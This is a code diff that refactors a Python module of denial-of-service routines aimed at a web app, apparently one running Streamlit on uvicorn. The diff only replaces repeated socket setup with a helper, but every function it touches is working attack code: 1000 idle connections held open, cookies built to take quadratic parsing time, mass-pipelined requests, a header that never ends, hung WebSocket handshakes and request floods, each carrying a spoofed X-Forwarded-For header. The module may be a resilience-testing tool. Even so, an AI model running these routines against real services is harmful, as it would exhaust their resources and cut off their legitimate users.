@@ -139,6 +139,12 @@ def _connected(url: str) -> ClientConnection:
     )
 
 
+def _plain(url: str) -> socket.socket:
+    """A connection on which nothing was said yet."""
+    parts = urlsplit(url)
+    return socket.create_connection((parts.hostname, parts.port or 80), 10)
+
+
 def _message(**fields: object) -> bytes:
     message = BackMsg()
     for name, value in fields.items():
@@ -220,11 +226,10 @@ def sessions(url: str) -> None:
 
 def idle_connections(url: str) -> None:
     """Connections on which nothing is asked."""
-    parts = urlsplit(url)
     held = []
     with suppress(OSError):
         for _ in range(1000):
-            held.append(socket.create_connection((parts.hostname, parts.port or 80)))
+            held.append(_plain(url))
     time.sleep(20)
 
 
@@ -243,10 +248,9 @@ def many_parts(url: str) -> None:
 
 def escaped_cookies(url: str) -> None:
     """Cookies whose quotes take quadratic time to read."""
-    parts = urlsplit(url)
     cookie = 'a="' + '\\"' * 8_000 + '"'
     request = f"GET /_stcore/health HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n"
-    with socket.create_connection((parts.hostname, parts.port or 80), 10) as connection:
+    with _plain(url) as connection:
         while True:
             connection.sendall(f"{request}Cookie: {cookie}\r\n\r\n".encode())
             if not connection.recv(65_536):
@@ -255,12 +259,11 @@ def escaped_cookies(url: str) -> None:
 
 def pipelined(url: str) -> None:
     """Forty connections that ask thirteen thousand times and read nothing."""
-    parts = urlsplit(url)
     request = f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
     held = []
     with suppress(OSError):
         for _ in range(40):
-            held.append(socket.create_connection((parts.hostname, parts.port or 80), 10))
+            held.append(_plain(url))
             held[-1].settimeout(1)
             held[-1].sendall(request * 13_000)
     time.sleep(1)
@@ -277,14 +280,11 @@ def marks(url: str) -> None:
 
 def requests(url: str) -> None:
     """Fifty connections that ask for what needs no sign-in, over and over."""
-    parts = urlsplit(url)
     asked = [
         f"GET {path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
         for path in ("/api/v1/app/me", "/api/openapi.json", "/api/ready", "/_stcore/health")
     ]
-    connections = [
-        socket.create_connection((parts.hostname, parts.port or 80), 10) for _ in range(50)
-    ]
+    connections = [_plain(url) for _ in range(50)]
     for number in range(1_000_000):
         connection = connections[number % 50]
         connection.sendall(asked[number % 4])
@@ -294,8 +294,7 @@ def requests(url: str) -> None:
 
 def endless_header(url: str) -> None:
     """A header that does not end."""
-    parts = urlsplit(url)
-    with socket.create_connection((parts.hostname, parts.port or 80), 10) as connection:
+    with _plain(url) as connection:
         connection.sendall(f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\nX: ".encode())
         for _ in range(1_000):
             connection.sendall(b"x" * 20_000)
@@ -304,15 +303,15 @@ def endless_header(url: str) -> None:
 
 def hung_handshakes(url: str) -> None:
     """WebSocket handshakes that websockets refuses after uvicorn has taken them."""
-    parts = urlsplit(url)
     request = (
-        f"GET /_stcore/stream HTTP/1.1\r\nHost: {parts.netloc}\r\nX-Forwarded-For: {ATTACKER}\r\n"
+        f"GET /_stcore/stream HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\n"
+        f"X-Forwarded-For: {ATTACKER}\r\n"
         "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
         "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: 5\r\n\r\n"
     ).encode()
     held = []
     while True:
-        held.append(socket.create_connection((parts.hostname, parts.port or 80), 10))
+        held.append(_plain(url))
         held[-1].sendall(request)
         if len(held) > 5_000:
             held.pop(0).close()
@@ -337,11 +336,10 @@ def pages_for_files(url: str) -> None:
 
 def _ask(url: str, head: str, count: int) -> None:
     """Ask the same on so many connections, on each as soon as it was answered."""
-    parts = urlsplit(url)
     request = f"{head}X-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
     with selectors.DefaultSelector() as ready:
         for _ in range(count):
-            connection = socket.create_connection((parts.hostname, parts.port or 80), 10)
+            connection = _plain(url)
             ready.register(connection, selectors.EVENT_READ)
             connection.sendall(request)
         while ready.get_map():
